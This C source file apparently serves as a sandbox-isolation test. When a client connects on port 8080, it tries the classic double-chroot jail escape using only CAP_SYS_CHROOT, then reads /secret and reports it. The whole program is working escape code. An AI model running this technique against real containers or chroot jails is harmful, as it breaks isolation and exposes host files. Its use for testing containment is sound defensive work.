/*
 * A service in a chroot that tries to get out when somebody connects to port 8080. The classic way: enter a second chroot while
 * the current folder stays outside of it, climb up, and make that the root. It takes the capability SYS_CHROOT and nothing else.
 */
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void fail(const char *what) {
  perror(what);
  exit(1);
}

static void say(int to, const char *what, const char *how) {
  char text[256];
  snprintf(text, sizeof text, "%s: %s\n", what, how);
  if (write(to, text, strlen(text)) < 0) fail("write");
  _exit(0);
}

static void show_secret(int to) {
  char text[128] = "";
  int secret = open("/secret", O_RDONLY);
  if (secret < 0) say(to, "no secret here", strerror(errno));
  ssize_t size = read(secret, text, sizeof text - 1);
  say(to, "escaped", size > 0 ? text : "an empty secret");
}

static void escape(int to) {
  if (chroot("/inner") < 0) say(to, "still in the jail, chroot", strerror(errno));
  for (int up = 0; up < 32; up++)
    if (chdir("..") < 0) say(to, "still in the jail, chdir", strerror(errno));
  if (chroot(".") < 0) say(to, "still in the jail, chroot", strerror(errno));
  show_secret(to);
}

static void end(int signal) {
  (void)signal;
  _exit(0);
}

int main(void) {
  struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = htons(8080)};
  int on = 1, listener = socket(AF_INET, SOCK_STREAM, 0);
  signal(SIGTERM, end);
  if (listener < 0) fail("socket");
  if (setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on) < 0) fail("setsockopt");
  if (bind(listener, (struct sockaddr *)&any, sizeof any) < 0) fail("bind");
  if (listen(listener, 8) < 0) fail("listen");
  puts(access("/secret", R_OK) == 0 ? "listening, the secret in sight" : "listening in the jail");
  fflush(stdout);
  for (;;) {
    int client = accept(listener, NULL, NULL);
    if (client < 0) fail("accept");
    pid_t child = fork();
    if (child < 0) fail("fork");
    if (child == 0) escape(client);
    if (waitpid(child, NULL, 0) < 0) fail("waitpid");
    close(client);
  }
}
